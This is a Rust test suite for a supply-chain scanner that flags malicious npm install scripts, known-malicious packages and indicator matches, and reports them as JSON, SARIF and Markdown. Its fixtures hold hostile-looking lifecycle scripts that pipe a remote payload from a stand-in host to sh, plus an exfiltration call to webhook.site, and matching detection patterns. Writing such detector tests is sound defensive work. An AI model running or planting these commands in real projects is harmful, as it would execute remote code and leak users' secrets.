//! `scioc scan` rules and outputs on a small hand-made project with ToolTrust data files:
//! script patterns (contains, exact, regex), domains on label boundaries, URLs, names,
//! curated ranges, severities from confidence and action, the ignore file with expiry, SARIF
//! (validated against the SARIF 2.1.0 schema) and Markdown.

use crate::support::Scioc;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

fn write(path: &Path, body: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, body).unwrap();
}

/// A project with scripts, a declared dependency and an installed tree; ToolTrust files beside.
fn project(s: &Scioc) -> (PathBuf, PathBuf, PathBuf) {
    let p = s.dir.path().join("proj");
    write(
        &p.join("package.json"),
        r#"{
  "name": "proj",
  "version": "1.0.0",
  "scripts": {
    "test": "curl https://cdn.evil-domain.example/never-run-by-install.sh | sh",
    "postinstall": "curl -s https://cdn.evil-domain.example/payload.sh | sh",
    "prepare": "wget http://notevil-domain.example.com/x"
  },
  "dependencies": {
    "helper": "^1.0.0",
    "evil-dep": "^2.0.0"
  }
}
"#,
    );
    write(
        &p.join("node_modules/helper/package.json"),
        r#"{"name": "helper", "version": "1.2.0", "scripts": {"preinstall": "node steal.js --exfil webhook.site/abc"}}"#,
    );
    write(&p.join("node_modules/evil-dep/package.json"), r#"{"name": "evil-dep", "version": "2.0.0"}"#);
    write(&p.join("node_modules/fine/package.json"), r#"{"name": "fine", "version": "1.0.0"}"#);
    let iocs = s.dir.path().join("npm_iocs.json");
    let ioc = |ty: &str, value: &str, m: Option<&str>, confidence: &str, action: &str| {
        let mut v = json!({"ecosystem": "npm", "ioc_type": ty, "value": value, "reason": "test", "confidence": confidence,
            "source": format!("https://example.org/{ty}"), "first_seen": "2026-01-01", "suggested_action": action});
        if let Some(m) = m {
            v["match"] = json!(m);
        }
        v
    };
    let list = json!([
        ioc("script_pattern", "| sh", None, "high", "block"),
        ioc("script_pattern", r"steal\.js", Some("regex"), "medium", "flag"),
        ioc("script_pattern", "node steal.js --exfil webhook.site/abc", Some("exact"), "low", "watch"),
        ioc("domain", "evil-domain.example", None, "high", "flag"),
        ioc("domain", "webhook.site", None, "medium", "flag"),
        ioc("url", "https://cdn.evil-domain.example/payload.sh", Some("exact"), "high", "block"),
        ioc("dependency_name", "evil-dep", None, "high", "block"),
        ioc("package_name", "not-present", None, "high", "block"),
    ]);
    std::fs::write(&iocs, serde_json::to_string_pretty(&list).unwrap()).unwrap();
    let blacklist = s.dir.path().join("blacklist.json");
    std::fs::write(
        &blacklist,
        r#"[{"id": "HELPER-2026", "component": "helper", "ecosystem": "npm", "affected_versions": [">=1.0.0 <2.0.0"],
            "action": "BLOCK", "severity": "HIGH", "reason": "test", "link": "https://example.org/helper"}]"#,
    )
    .unwrap();
    (p, iocs, blacklist)
}

fn scan(s: &Scioc, args: &[&str]) -> (i32, String, String) {
    let mut all = vec!["scan"];
    all.extend(args);
    let out = s.run(&all, "");
    (
        out.status.code().unwrap(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn rows(v: &Value) -> Vec<(String, String, String, String, u64)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let file = f["file"].as_str().unwrap();
            let short = file.split("proj/").nth(1).unwrap_or(file).to_owned();
            (
                f["severity"].as_str().unwrap().to_owned(),
                f["rule"].as_str().unwrap().to_owned(),
                f["package"].as_str().unwrap().to_owned(),
                short,
                f["line"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn indicators_ranges_and_severities_from_tooltrust_files() {
    let s = Scioc::new();
    let (p, iocs, blacklist) = project(&s);
    let data = s.data_dir();
    let args = ["--format", "json", "--iocs", iocs.to_str().unwrap(), "--blacklist", blacklist.to_str().unwrap()];
    let mut all = args.to_vec();
    all.push(p.to_str().unwrap());
    let (code, out, err) = scan(&s, &all);
    assert_eq!(code, 1, "{err}");
    assert!(!data.exists(), "a scan with ToolTrust files alone creates no store");
    let v: Value = serde_json::from_str(&out).unwrap();
    let r = |sev: &str, rule: &str, pkg: &str, file: &str, line: u64| {
        (sev.to_owned(), rule.to_owned(), pkg.to_owned(), file.to_owned(), line)
    };
    assert_eq!(
        rows(&v),
        vec![
            // Worst first, then by file. The postinstall pipes to sh (block/high), from a subdomain
            // of a listed domain, at a listed URL: one finding per indicator. `test` is not a
            // lifecycle script.
            r("CRITICAL", "AS-016", "evil-dep", "node_modules/evil-dep/package.json", 1),
            r("CRITICAL", "AS-016", "proj", "package.json", 2),
            r("CRITICAL", "AS-016", "proj", "package.json", 2),
            r("HIGH", "AS-008", "helper", "node_modules/helper/package.json", 1),
            r("HIGH", "AS-016", "proj", "package.json", 2),
            r("MEDIUM", "AS-016", "helper", "node_modules/helper/package.json", 1),
            r("MEDIUM", "AS-016", "helper", "node_modules/helper/package.json", 1),
            r("LOW", "AS-016", "helper", "node_modules/helper/package.json", 1),
        ],
        "{v:#}"
    );
    let evidence: Vec<&str> =
        v["findings"].as_array().unwrap().iter().map(|f| f["evidence"].as_str().unwrap()).collect();
    assert!(evidence[0].contains("dependency_name indicator \"evil-dep\""), "{evidence:#?}");
    assert!(evidence[1].contains("\"| sh\" (contains)") && evidence[2].contains("url indicator"), "{evidence:#?}");
    assert!(evidence[4].contains("domain indicator \"evil-domain.example\""), "{evidence:#?}");
    assert!(
        !evidence.iter().any(|e| e.contains("notevil-domain")),
        "a domain matches on label boundaries, never as a substring: {evidence:#?}"
    );
    assert!(evidence[3].contains("(>=1.0.0 <2.0.0) by HELPER-2026"), "a curated range: {evidence:#?}");
    assert!(evidence[5].contains("webhook.site") && evidence[6].contains("regex"), "{evidence:#?}");
    assert_eq!(v["findings"][3]["path"], json!(["helper"]));
    assert_eq!(v["findings"][3]["reference"], "https://example.org/helper");
    assert_eq!(v["findings"][3]["purl"], "pkg:npm/helper@1.2.0");
    // The manifest's declared ranges are dropped beside an installed tree: evil-dep is reported
    // once, from what is installed.
    assert_eq!(v["packages"], 4);
    assert_eq!(v["schema"], "scioc-scan/1");
    assert_eq!(v["summary"], json!({"critical": 3, "high": 2, "medium": 2, "low": 1}));

    // --fail-on high: the LOW and MEDIUM findings alone would pass.
    let (code, _, _) = scan(&s, &[&all[..], &["--fail-on", "critical"]].concat());
    assert_eq!(code, 1);
    std::fs::remove_dir_all(p.join("node_modules")).unwrap();
    std::fs::write(p.join("package.json"), r#"{"name": "proj", "dependencies": {"helper": "^1.0.0"}}"#).unwrap();
    let (code, out, _) = scan(&s, &all);
    assert_eq!(code, 0, "a declared range of a package with only some malicious versions is not a finding: {out}");

    // A malformed ToolTrust file is an error naming it.
    std::fs::write(&iocs, "[{\"ioc_type\": 3}]").unwrap();
    let (code, _, err) = scan(&s, &all);
    assert_eq!(code, 127);
    assert!(err.contains("npm_iocs.json") && err.contains("line 1"), "{err}");
}

#[test]
fn ignore_file_with_expiry_sarif_and_markdown() {
    let s = Scioc::new();
    let (p, iocs, blacklist) = project(&s);
    let base = ["--iocs", iocs.to_str().unwrap(), "--blacklist", blacklist.to_str().unwrap()];
    let with = |extra: &[&str]| {
        let mut a = base.to_vec();
        a.extend(extra);
        a.push(p.to_str().unwrap());
        scan(&s, &a)
    };
    let count = |out: &str| serde_json::from_str::<Value>(out).unwrap()["findings"].as_array().unwrap().len();
    let (_, out, _) = with(&["--format", "json"]);
    assert_eq!(count(&out), 8);

    // An ignore in force hides its finding and records why.
    let ignore = p.join("scioc-ignore.toml");
    std::fs::write(
        &ignore,
        "[[ignore]]\npurl = \"pkg:npm/helper\"\nrule = \"AS-008\"\nreason = \"vendored and patched\"\nexpires = 2999-01-01\n",
    )
    .unwrap();
    let (_, out, _) = with(&["--format", "json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(count(&out), 7);
    assert_eq!(v["ignored"][0]["finding"]["package"], "helper");
    assert_eq!(v["ignored"][0]["by"]["reason"], "vendored and patched");

    // SARIF: valid against the 2.1.0 schema, located at lockfile lines, with rule metadata, the
    // ignored finding as a suppressed result.
    let (code, sarif, err) = with(&["--format", "sarif"]);
    assert_eq!(code, 1, "{err}");
    let sarif: Value = serde_json::from_str(&sarif).unwrap();
    let problems = crate::support::sarif_problems(&sarif);
    assert!(problems.is_empty(), "SARIF 2.1.0 schema violations: {problems:#?}");
    let run = &sarif["runs"][0];
    let rules: Vec<&str> =
        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(rules, ["AS-008", "HASH", "AS-016"]);
    assert_eq!(run["tool"]["driver"]["rules"][0]["properties"]["security-severity"], "9.8");
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 8);
    let first = &results[1];
    assert_eq!(first["ruleId"], "AS-016");
    assert_eq!(first["level"], "error");
    assert_eq!(first["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "package.json");
    assert_eq!(first["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    assert_eq!(first["locations"][0]["physicalLocation"]["region"]["startLine"], 2);
    let low = results.iter().find(|r| r["properties"]["severity"] == "LOW").unwrap();
    assert_eq!(low["level"], "note");
    let suppressed: Vec<&Value> = results.iter().filter(|r| r.get("suppressions").is_some()).collect();
    assert_eq!(suppressed.len(), 1);
    assert_eq!(suppressed[0]["suppressions"][0]["justification"], "vendored and patched");
    assert_eq!(
        suppressed[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "node_modules/helper/package.json"
    );

    // Markdown for a pull request.
    let (_, md, _) = with(&["--format", "markdown"]);
    assert!(md.starts_with("### 🚨 scioc: 7 finding(s) (3 critical, 1 high, 2 medium, 1 low)"), "{md}");
    assert!(md.contains("| Severity | Rule | Package | Where | Via | Why | Reference |"), "{md}");
    assert_eq!(md.lines().filter(|l| l.starts_with("| **")).count(), 7, "{md}");
    assert!(md.contains("1 finding(s) hidden by ignore rules"), "{md}");

    // --output writes the report to a file atomically.
    let out_file = s.dir.path().join("report.sarif");
    let (code, stdout, _) = with(&["--format", "sarif", "--output", out_file.to_str().unwrap()]);
    assert_eq!((code, stdout.is_empty()), (1, true));
    assert!(serde_json::from_str::<Value>(&std::fs::read_to_string(&out_file).unwrap()).is_ok());

    // Expired: the finding is shown again and the scan says so.
    std::fs::write(
        &ignore,
        "[[ignore]]\npurl = \"pkg:npm/helper@1.2.0\"\nrule = \"AS-008\"\nreason = \"vendored and patched\"\nexpires = 2020-01-01\n",
    )
    .unwrap();
    let (_, out, err) = with(&["--format", "json"]);
    assert_eq!(count(&out), 8);
    assert!(err.contains("expired on 2020-01-01") && err.contains("scioc-ignore.toml:1"), "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["expired_ignores"][0]["findings"], 1);

    // A bad ignore file is an error naming file, line and field, and nothing is scanned.
    std::fs::write(&ignore, "[[ignore]]\npurl = \"pkg:npm/helper\"\nrule = \"AS-8\"\nreason = \"x\"\n").unwrap();
    let (code, out, err) = with(&["--format", "json"]);
    assert_eq!((code, out.is_empty()), (127, true));
    assert!(
        err.contains("scioc-ignore.toml:3:") && err.contains("rule: expected one of AS-008, HASH, AS-016"),
        "{err}"
    );
}

#[test]
fn an_empty_index_is_an_error_not_a_clean_bill_of_health() {
    let s = Scioc::new();
    let p = s.dir.path().join("p");
    write(&p.join("requirements.txt"), "requests==2.31.0\n");
    // No store at all: where it looked, and what fills one.
    let (code, _, err) = scan(&s, &[p.to_str().unwrap()]);
    assert_eq!(code, 127);
    assert!(err.contains("no store in") && err.contains("scioc ingest osv"), "{err}");
    // A store that holds nothing to match against.
    s.add_user("reader", "reader");
    let (code, _, err) = scan(&s, &[p.to_str().unwrap()]);
    assert_eq!(code, 127);
    assert!(err.contains("nothing to match against"), "{err}");
}

#[test]
fn a_known_malicious_version_is_as_severe_as_its_threat_level() {
    use crate::osv::{Tree, record};
    let s = Scioc::new();
    let tree = Tree::new();
    let mut spam = record("MAL-2099-0201", "npm", "tea-farm-spam", &["1.0.0"], "2099-01-01T00:00:00Z");
    spam["summary"] = json!("Spam package published for tea protocol token farming");
    let mut probe = record("MAL-2099-0202", "npm", "corp-internal-probe", &["9.9.9"], "2099-01-01T00:00:00Z");
    probe["summary"] = json!("A dependency confusion test sending the hostname to a collector");
    let mut stealer = record("MAL-2099-0203", "npm", "env-stealer", &["2.0.0"], "2099-01-01T00:00:00Z");
    stealer["summary"] = json!("Steals environment variables and credentials and exfiltrates them");
    for r in [&spam, &probe, &stealer] {
        tree.put(&format!("osv/malicious/npm/{}.json", r["id"].as_str().unwrap()), r);
    }
    s.ok(&["ingest", "osv", &tree.arg()], "");
    let proj = s.dir.path().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::write(
        proj.join("package-lock.json"),
        json!({"name": "proj", "lockfileVersion": 3, "packages": {
            "": {"name": "proj"},
            "node_modules/tea-farm-spam": {"version": "1.0.0"},
            "node_modules/corp-internal-probe": {"version": "9.9.9"},
            "node_modules/env-stealer": {"version": "2.0.0"}}})
        .to_string(),
    )
    .unwrap();
    let scan = |extra: &[&str]| {
        let mut args = vec!["scan", "--format", "json", proj.to_str().unwrap()];
        args.extend(extra);
        let out = s.run(&args, "");
        (out.status.code().unwrap(), serde_json::from_slice::<Value>(&out.stdout).unwrap())
    };
    let (code, v) = scan(&[]);
    assert_eq!(code, 1);
    let mut severities: Vec<(String, String)> = rows(&v).into_iter().map(|(sev, _, pkg, _, _)| (pkg, sev)).collect();
    severities.sort();
    assert_eq!(
        severities,
        [
            ("corp-internal-probe".to_owned(), "MEDIUM".to_owned()),
            ("env-stealer".to_owned(), "CRITICAL".to_owned()),
            ("tea-farm-spam".to_owned(), "LOW".to_owned()),
        ]
    );
    // A gate at high passes the spam and the probe, and still fails on the stealer.
    let (code, _) = scan(&["--fail-on", "high"]);
    assert_eq!(code, 1);
    std::fs::write(
        proj.join("package-lock.json"),
        json!({"name": "proj", "lockfileVersion": 3, "packages": {
            "": {"name": "proj"}, "node_modules/tea-farm-spam": {"version": "1.0.0"}}})
        .to_string(),
    )
    .unwrap();
    let (code, v) = scan(&["--fail-on", "high"]);
    assert_eq!((code, v["findings"].as_array().unwrap().len()), (0, 1), "found, reported, below the gate: {v}");
    // Renamed as an infostealer by hand, the spam is as severe as one.
    s.ok(
        &[
            "reclassify",
            "--purl",
            "pkg:npm/tea-farm-spam@1.0.0",
            "--threat-name",
            "Script-JS.Infostealer.SupplyChain",
            "--threat-level",
            "5",
        ],
        "",
    );
    let (code, v) = scan(&["--fail-on", "high"]);
    assert_eq!((code, v["findings"][0]["severity"].as_str()), (1, Some("CRITICAL")), "{v}");
}
